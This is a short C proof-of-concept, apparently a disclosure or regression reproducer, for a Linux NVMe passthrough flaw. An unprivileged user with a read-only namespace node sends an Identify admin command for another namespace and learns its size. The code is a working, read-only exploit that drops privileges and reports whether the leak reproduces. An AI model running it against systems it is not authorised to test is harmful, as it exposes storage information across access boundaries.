/* SPDX-License-Identifier: Apache-2.0 */
/*
 * K3: Identify answers about every namespace: CNS 00h, 05h and 08h with any NSID, through the node
 * of another namespace, open for reading, to a user without capabilities.
 * Affected: Linux 6.2 and later (seen on 6.12.95 and 7.3.4). Not affected: 6.1, where every
 * passthrough command needs CAP_SYS_ADMIN.
 *
 *   k3-identify NODE NSID    /dev/ng0n1, and the number of another namespace of the controller
 *
 * Started as root it gives up its rights after it has opened the node. Changes nothing.
 * Exit status: 0 reproduced, 1 not on this kernel, 2 it could not be tried.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/nvme_ioctl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define NOBODY 65534

static uint8_t data[4096] __attribute__((aligned(4096)));

int main(int argc, char **argv)
{
	struct nvme_admin_cmd c = {
		.opcode = 0x06, .addr = (uintptr_t)data, .data_len = sizeof(data)};
	uint64_t blocks;
	int fd, r;

	if (argc != 3 || (fd = open(argv[1], O_RDONLY | O_CLOEXEC)) < 0) {
		perror(argc != 3 ? "usage: k3-identify NODE NSID" : argv[1]);
		return 2;
	}
	if (geteuid() == 0 && (setgroups(0, NULL) < 0 || setgid(NOBODY) < 0 || setuid(NOBODY) < 0))
		return 2;
	c.nsid = (uint32_t)strtoul(argv[2], NULL, 10);
	if (ioctl(fd, NVME_IOCTL_ID) == (int)c.nsid) {
		(void)fprintf(stderr, "K3: %s is namespace %s: name another one\n", argv[1],
			      argv[2]);
		return 2;
	}
	r = ioctl(fd, NVME_IOCTL_ADMIN_CMD, &c);
	if (r < 0 && errno == EACCES) {
		(void)printf("K3 not on this kernel: Identify is refused\n");
		return 1;
	}
	memcpy(&blocks, data, sizeof(blocks)); /* NSZE, little-endian */
	if (r != 0 || !blocks) {
		perror("K3: could not be tried");
		return 2;
	}
	(void)printf("K3 reproduced: %s tells that namespace %s has %llu blocks\n", argv[1],
		     argv[2], (unsigned long long)blocks);
	return 0;
}
